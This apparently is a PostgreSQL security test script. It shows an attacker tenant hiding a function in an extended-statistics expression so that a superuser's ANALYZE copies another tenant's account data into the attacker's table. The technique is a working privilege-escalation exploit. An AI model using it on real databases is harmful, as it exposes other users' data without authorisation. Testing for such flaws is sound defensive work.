-- Extended statistics over an expression, run by a superuser's ANALYZE.
CREATE TABLE stolen (what text);
CREATE FUNCTION steals() RETURNS int LANGUAGE plpgsql AS $$ BEGIN INSERT INTO tenant_alpha.stolen SELECT owner FROM tenant_beta.accounts; RETURN 1; END $$;
CREATE FUNCTION spies(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN IF session_user = 'postgres' THEN PERFORM tenant_alpha.steals(); END IF; RETURN $1; END $$;
CREATE STATISTICS bait ON (spies(id)) FROM accounts;
-- @session operator
ANALYZE tenant_alpha.accounts;
-- @session attacker
TABLE stolen;
